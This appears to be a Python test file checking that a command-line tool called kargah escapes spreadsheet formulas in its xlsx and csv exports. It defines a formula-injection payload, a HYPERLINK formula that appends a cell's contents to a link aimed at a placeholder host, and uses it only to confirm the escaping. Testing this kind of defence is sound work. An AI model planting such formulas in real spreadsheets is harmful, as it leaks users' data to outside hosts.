"""The command line writes spreadsheets through the same escaping as the site."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook
from typer.testing import CliRunner

from kargah.cli import app

ATTACK = '=HYPERLINK("http://x"&B3,"Open")'


def test_a_theme_typed_as_a_formula_stays_text_in_the_cli_outputs(tmp_path: Path) -> None:
    runner = CliRunner()
    assert runner.invoke(app, ["coding", "demo", "-o", str(tmp_path)]).exit_code == 0
    segments = pd.read_csv(tmp_path / "segments.csv", dtype=str, encoding="utf-8-sig")
    segments.loc[segments["theme"] == segments["theme"].iloc[0], "theme"] = ATTACK
    source = tmp_path / "attack.csv"
    segments.to_csv(source, index=False)  # as a user's own tool would write it: unescaped
    for name in ("out.xlsx", "out.csv"):
        done = runner.invoke(
            app, ["coding", "frequencies", str(source), "-o", str(tmp_path / name)]
        )
        assert done.exit_code == 0, done.output
    sheet = load_workbook(tmp_path / "out.xlsx").active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("theme")] for row in sheet.iter_rows(min_row=2)]
    assert "'" + ATTACK in [c.value for c in cells]
    assert all(c.data_type == "s" for c in cells)  # no formula anywhere
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as f:
        themes = [row["theme"] for row in csv.DictReader(f)]
    assert "'" + ATTACK in themes and ATTACK not in themes
